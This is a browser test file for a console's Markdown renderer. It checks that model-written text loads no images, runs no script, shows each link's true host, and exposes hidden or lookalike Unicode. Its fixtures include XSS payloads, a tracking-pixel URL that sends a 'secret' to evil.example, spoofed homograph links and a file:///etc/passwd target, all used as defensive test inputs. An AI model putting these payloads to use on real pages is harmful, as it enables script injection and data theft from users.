"""What others write, as a browser shows it: nothing is loaded, nothing hidden, nothing passes for another."""

import pytest
from playwright.sync_api import Page

from tests.console.browsing import needs_browser

pytestmark = [pytest.mark.browser, needs_browser]

SHOW = """
    async (text) => {
      const {render, html} = await import("/console/app/html.js");
      const {Markdown} = await import("/console/app/markdown.js");
      const root = document.getElementById("app");
      render(html`<${Markdown} text=${text} />`, root);
      return root.innerHTML;
    }
"""
RIGHT_TO_LEFT = "\u202e"
HOSTILE = """
# Result
![pixel](https://evil.example/pixel.png?q=secret) ![x](javascript:alert(1))
<img src=x onerror=alert(1)><script>alert(1)</script><iframe src="https://evil.example"></iframe>
[log in](https://good.example.evil.example/path) [click](javascript:alert(1)) [data](data:text/html,x)
[paypal](https://p\u0430ypal.com/) https://user:pass@evil.example/ //evil.example
<https://evil.example/auto> [ref]: https://evil.example
`<b>code</b>` **bold <i>x</i>** _em_
| a | b |
|---|---|
| <svg onload=alert(1)> | ![i](https://evil.example/i.png) |
"""


def shown(page: Page, text: str) -> str:
    return str(page.evaluate("async (text) => (await import('/console/app/text.js')).shown(text)", text))


def marked(page: Page, text: str) -> str:
    return str(page.evaluate(SHOW, text))


def test_a_models_markdown_loads_and_runs_nothing(page: Page) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "127.0.0.1" not in request.url else None)

    markup = marked(page, HOSTILE)

    assert page.locator("#app :is(img, script, iframe, svg, b, i, object, style, form)").count() == 0
    assert page.locator("#app [onerror], #app [onload], #app [style]").count() == 0
    hrefs = page.locator("#app a").evaluate_all("links => links.map((link) => link.getAttribute('href'))")
    assert all(href.startswith(("https://", "http://")) for href in hrefs)
    assert "image not loaded: pixel (evil.example)" in page.locator("#app").inner_text()
    assert "&lt;img src=x" in markup
    assert asked == []


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[my bank](https://bank.example.evil.example/login)", "(bank.example.evil.example)"),
        ("[paypal.com](https://p\u0430ypal.com/)", "(xn--pypal-4ve.com)"),
        ("[x](https://good.example@evil.example/)", "(evil.example)"),
        ("https://evil.example/a.", "(evil.example)"),
        ("[x](http://evil.example:8080/)", "(evil.example:8080)"),
    ],
)
def test_a_link_tells_its_true_host_and_opens_outside(page: Page, text: str, host: str) -> None:
    marked(page, text)

    link = page.locator("#app a")
    assert link.count() == 1
    assert host in page.locator("#app").inner_text()
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "/relative", "x y"]
)
def test_what_is_no_address_of_the_web_is_no_link(page: Page, target: str) -> None:
    marked(page, f"[words]({target})")

    assert page.locator("#app a").count() == 0
    assert "words" in page.locator("#app").inner_text()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"invoice{RIGHT_TO_LEFT}gpj.exe", "invoice⟨U+202E⟩gpj.exe"),
        ("p\u0430ypal", "p⟨U+0430⟩ypal"),
        ("ad\u200bmin", "ad⟨U+200B⟩min"),
        ("\U000e0041hidden", "⟨U+E0041⟩hidden"),
        ("bell\x07", "bell⟨U+0007⟩"),
        ("\uff41dmin", "⟨U+FF41⟩dmin"),
        ("ΡayPal", "⟨U+03A1⟩ayPal"),
        ("Привет, мир", "Привет, мир"),
        ("Καλημέρα κόσμε", "Καλημέρα κόσμε"),
        ("one\ttwo\nthree", "one\ttwo\nthree"),
        ("👩\u200d💻 ✊🏽 é 漢字", "👩\u200d💻 ✊🏽 é 漢字"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("x\u200cy", "x⟨U+200C⟩y"),
    ],
)
def test_what_is_unseen_or_passes_for_another_is_shown_by_its_number(
    page: Page, text: str, expected: str
) -> None:
    assert shown(page, text) == expected


@pytest.mark.parametrize(
    ("text", "selector", "expected"),
    [
        ("# One", "h4", "One"),
        ("### One\n# Two\n###### Three", "h4:nth-of-type(2) + h5", "Three"),
        ("a **b** c", "p strong", "b"),
        ("a *b* c", "p em", "b"),
        ("2 * 3 * 4", "p", "2 * 3 * 4"),
        ("snake_case_name", "p", "snake_case_name"),
        ("- one\n- two", "ul > li:nth-child(2)", "two"),
        ("1. one\n2. two\n   - inner", "ol > li:nth-child(2) ul li", "inner"),
        ("```python\nx = '<b>'\n```", "pre code", "x = '<b>'"),
        ("> said\n> so", "blockquote p", "said\nso"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "tbody td:nth-child(2)", "2"),
        ("a `b*c*` d", "p code", "b*c*"),
        ("one\n\ntwo", "p:nth-child(2)", "two"),
    ],
)
def test_markdown_is_laid_out(page: Page, text: str, selector: str, expected: str) -> None:
    marked(page, text)

    assert page.locator(f"#app .markdown {selector}").first.text_content() == expected


@pytest.mark.parametrize(
    "text",
    [
        "[" * 5_000,
        "*" * 5_000,
        "> " * 2_000,
        "`" * 4_999,
        "- " * 3_000,
        "[a](" * 2_000,
        "|" * 3_000 + "\n|-|",
    ],
)
def test_no_text_keeps_the_page_from_being_shown(page: Page, text: str) -> None:
    marked(page, text)

    assert page.locator("#app .markdown").count() == 1
